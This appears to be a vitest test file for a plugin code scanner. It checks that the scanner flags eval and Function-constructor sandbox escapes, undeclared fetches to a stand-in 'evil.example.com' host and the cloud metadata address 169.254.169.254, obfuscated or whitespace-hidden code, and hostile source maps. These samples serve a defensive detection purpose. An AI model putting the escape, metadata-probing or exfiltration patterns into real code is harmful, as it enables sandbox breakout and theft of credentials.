import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { ManifestPermissions } from '../../src/bridge/manifest.ts';
import { scanApart } from '../../src/packages/scan/scan-apart.ts';
import { scanPlugin } from '../../src/packages/scan/scan-plugin.ts';

const sourceMap = JSON.stringify({ version: 3, sources: ['src/index.ts'], names: [], mappings: '' });

function scan(code: string, permissions: Partial<ManifestPermissions> = {}, map = sourceMap) {
  return scanPlugin({ code, sourceMap: map, permissions: { tools: [], ...permissions } });
}

/** The longest text in the library's own file. */
function characterReferences(): string {
  const file = fileURLToPath(import.meta.resolve('entities/decode'));
  const data = readFileSync(join(dirname(file), 'generated', 'decode-data-html.js'), 'utf8');
  return [...data.matchAll(/"([^"\\\n]{1000,})"/g)].map(([, text = '']) => text).join('');
}

function codesOf(code: string, permissions: Partial<ManifestPermissions> = {}): string[] {
  return scan(code, permissions).map((found) => `${found.severity} ${found.code}`);
}

describe('dynamic code', () => {
  it.each([
    ['eval("x")', 'medium'],
    ['new Function("a", "return a")', 'medium'],
    ['Function("alert()")()', 'medium'],
    ['setTimeout("x()", 1)', 'medium'],
    ['(0, eval)("x")', 'medium'],
    ['globalThis.eval("x")', 'medium'],
    ['var F = Function; new F("")', 'low'],
    ['[].filter.constructor("return 1")()', 'high'],
    ['({}).constructor.constructor("return process")()', 'high'],
    ['(function () {}).constructor("x")', 'high'],
  ])('such as %s is found', (code, severity) => {
    expect(codesOf(code)).toEqual([`${severity} SCAN_DYNAMIC_CODE`]);
  });

  it.each([
    'Function("return this")()',
    'x instanceof Function && Function.prototype.call',
    'typeof Function',
    'var evaluate = 1; evaluate("x")',
    'function eval_(x) {} eval_("x")',
    'var Function = class {}; new Function("x")',
    'setTimeout(() => {}, 1)',
    'new this.constructor("name")',
    'math.eval("1 + 1")',
  ])('is not seen in %s', (code) => {
    expect(codesOf(code)).toEqual([]);
  });

  it('weighs less where the manifest declares it', () => {
    expect(codesOf('new Function("x")', { codegen: { reason: 'x' } })).toEqual(['low SCAN_DYNAMIC_CODE']);
  });
});

describe('modules and globals that the sandbox does not have', () => {
  it('are found where they are used', () => {
    expect(codesOf('import("x")')).toEqual(['medium SCAN_IMPORT']);
    expect(codesOf('require("fs")')).toEqual(['low SCAN_IMPORT']);
    expect(codesOf('process.exit()')).toEqual(['low SCAN_REMOVED_GLOBAL']);
    expect(codesOf('new WebAssembly.Module(x); new WebAssembly.Module(y)')).toEqual([
      'low SCAN_REMOVED_GLOBAL',
    ]);
  });

  it('are not seen behind typeof, as properties, or as names of the author', () => {
    expect(codesOf('typeof process === "object"; x.process; var y = { Buffer: 1 }')).toEqual([]);
    expect(codesOf('function f(process) { return process.x }; var require = f; require("x")')).toEqual([]);
  });
});

describe('hosts in texts', () => {
  const network = [
    { host: 'api.example.org', reason: 'x' },
    { host: '*.example.net', reason: 'x' },
  ];

  it('that are declared are not mentioned', () => {
    expect(
      codesOf('ctx.fetch("https://api.example.org/x"); a = "https://b.example.net"', { network }),
    ).toEqual([]);
  });

  it('that are not declared are found, and weigh more where they are fetched', () => {
    expect(codesOf('a = "see https://docs.example.com/x"', { network })).toEqual(['low SCAN_HOST']);
    expect(codesOf('ctx.fetch("https://evil.example.com/x")', { network })).toEqual(['medium SCAN_HOST']);
    expect(codesOf('ctx.fetch(`https://evil.example.com/$' + '{x}`)', { network })).toEqual([
      'medium SCAN_HOST',
    ]);
    expect(codesOf('fetch("http://169.254.169.254/latest" + x)', { network })).toEqual(['medium SCAN_HOST']);
    expect(codesOf('fetch("https://api.example.org@evil.example.com/")', { network })).toEqual([
      'medium SCAN_HOST',
    ]);
    expect(codesOf('fetch("https://evilexample.net/")', { network })).toEqual(['medium SCAN_HOST']);
  });

  it('are mentioned once, with the gravest use', () => {
    const [found, ...others] = scan('a = "https://x.example.com/1"; fetch("https://x.example.com/2")', {
      network,
    });
    expect(found).toMatchObject({ severity: 'medium', message: expect.stringContaining('x.example.com') });
    expect(others).toEqual([]);
  });
});

describe('unreadable code', () => {
  const escaped = [...'process.env'].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');
  const names = Array.from({ length: 12 }, (_, index) => `var _0x${(0x4a2b + index).toString(16)} = 1;`).join(
    '',
  );
  const packed = Array.from({ length: 1_000 }, (_, index) =>
    'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'.charAt(
      (index * 37 + (index >> 3)) % 64,
    ),
  ).join('');

  it.each([
    ['letters written as hex', `a = "${escaped}"`, 'high SCAN_OBFUSCATED'],
    ['letters written as Unicode escapes', `a = "${'\\u0065'.repeat(8)}"`, 'high SCAN_OBFUSCATED'],
    ['escaped names', '\\u0061lert(1)', 'high SCAN_OBFUSCATED'],
    ['escaped property names', 'x.\\u{65}val', 'high SCAN_OBFUSCATED'],
    ['names of an obfuscator', names, 'high SCAN_OBFUSCATED'],
    ['lists of character codes', `f([${Array(64).fill(101)}])`, 'medium SCAN_OBFUSCATED'],
    ['packed data', `a = "${packed}"`, 'medium SCAN_OBFUSCATED'],
    ['code behind blanks', `a = 1;${' '.repeat(300)}b = 2`, 'high SCAN_HIDDEN_CODE'],
  ])('with %s is found', (_, code, expected) => {
    expect(codesOf(code)).toEqual([expected]);
  });

  it.each([
    ['letters outside ASCII', 'var \\u03c0 = "\\u03c0\\u03c0\\u03c0\\u03c0\\u03c0\\u03c0\\u03c0\\u03c0"'],
    ['control characters', `a = "${'\\x00\\x1b'.repeat(8)}"`],
    ['lists of numbers', `a = [${Array.from({ length: 100 }, (_, index) => index * 3)}]`],
    ['long prose', `a = "${'the quick brown fox jumps over the lazy dog '.repeat(40)}"`],
    ['a long word of few letters', `a = "${'ab'.repeat(1_000)}"`],
    ['indented code', `a = 1;\n${' '.repeat(100)}b = 2`],
  ])('is not seen in %s', (_, code) => {
    expect(codesOf(code)).toEqual([]);
  });

  it('is not seen in tables of Unicode characters, and is in the same characters out of order', () => {
    const points = Array.from({ length: 600 }, (_, index) => 0xaa + index * 7 + (index % 3));
    const table = points
      .map((point, index) => `${index % 2 ? '-' : ''}${String.fromCodePoint(point)}`)
      .join('');
    expect(codesOf(`a = "${table}"`)).toEqual([]);
    expect(codesOf(`a = "${[...table].reverse().join('')}"`)).toEqual(['medium SCAN_OBFUSCATED']);
    expect(codesOf(`a = "${packed}${table}"`)).toEqual(['medium SCAN_OBFUSCATED']);
    expect(codesOf(`a = "${table}${packed}"`)).toEqual(['medium SCAN_OBFUSCATED']);
  });

  it('is not seen in the packed table of HTML character references, and is when one character of it differs', () => {
    const table = characterReferences();
    expect(codesOf(`a = ${JSON.stringify(table)}`)).toEqual([]);
    const changed = table.replace('!', '#');
    expect(codesOf(`a = ${JSON.stringify(changed)}`)).toEqual(['medium SCAN_OBFUSCATED']);
  });

  it('on long lines counts only when no source map explains it', () => {
    const line = 'a=1;'.repeat(2_000);
    expect(scan(line)).toEqual([]);
    expect(scan(line, {}, '')).toMatchObject([{ code: 'SCAN_UNMAPPED' }]);
  });

  it('that cannot be parsed is found, however deep it is', () => {
    expect(codesOf('a = (')).toEqual(['high SCAN_UNREADABLE']);
    expect(codesOf(`${'('.repeat(200_000)}`)).toEqual(['high SCAN_UNREADABLE']);
    expect(codesOf(`a${'+a'.repeat(200_000)}`)).toEqual(['high SCAN_UNREADABLE']);
  });
});

describe('a scan in its own thread', () => {
  const permissions = { tools: [] };

  it('finds the same', async () => {
    for (const code of ['eval("x")', `eval("x")${';a'.repeat(20_000)}`]) {
      const subject = { code, sourceMap, permissions };
      expect(await scanApart(subject)).toEqual(scanPlugin(subject));
      expect(scanPlugin(subject)).toMatchObject([{ code: 'SCAN_DYNAMIC_CODE' }]);
    }
  });

  it('is given up when it takes too long or too much memory', async () => {
    const subject = { code: `a=[${'1,'.repeat(1_000_000)}]`, sourceMap, permissions };
    for (const limits of [
      { timeoutMs: 1, heapMb: 512 },
      { timeoutMs: 60_000, heapMb: 24 },
    ]) {
      expect(await scanApart(subject, limits)).toMatchObject([{ code: 'SCAN_UNREADABLE', severity: 'high' }]);
    }
  });
});

describe('a finding', () => {
  it('names the place in the bundle, and the place in the sources where the map knows it', () => {
    expect(scan('a = 1;\n  eval("x")')[0]?.where).toBe('dist/plugin.js:2:3');
    const mapped = JSON.stringify({ version: 3, sources: ['src/a.ts'], names: [], mappings: 'AAKI' });
    expect(scan('eval("x")', {}, mapped)[0]).toMatchObject({
      where: 'src/a.ts:6:5',
      why: expect.stringMatching(/\S/),
      fix: expect.stringMatching(/\S/),
    });
  });

  it('does not believe the names in a hostile source map, nor fail on a damaged one', () => {
    const hostile = JSON.stringify({
      version: 3,
      sources: ['\u001b[31m\u202e/x'],
      names: [],
      mappings: 'AAAA',
    });
    expect(scan('eval("x")', {}, hostile)[0]?.where).toMatch(/^\?+31m\?\/x:1:1$/);
    for (const map of [
      '',
      '[]',
      '{"version":3,"mappings":7}',
      '{"version":3,"sources":[],"mappings":"!!"}',
      '{',
    ]) {
      expect(scan('eval("x")', {}, map)[0]?.where).toBe('dist/plugin.js:1:1');
    }
  });

  it('is one of a bounded list, gravest first', () => {
    const found = scan(`${'eval("x");'.repeat(500)}\\u0061lert(1)`);
    expect(found).toHaveLength(101);
    expect(found[0]).toMatchObject({ severity: 'high' });
    expect(found.at(-1)).toMatchObject({
      code: 'SCAN_TRUNCATED',
      message: '401 more findings are not listed.',
    });
  });
});
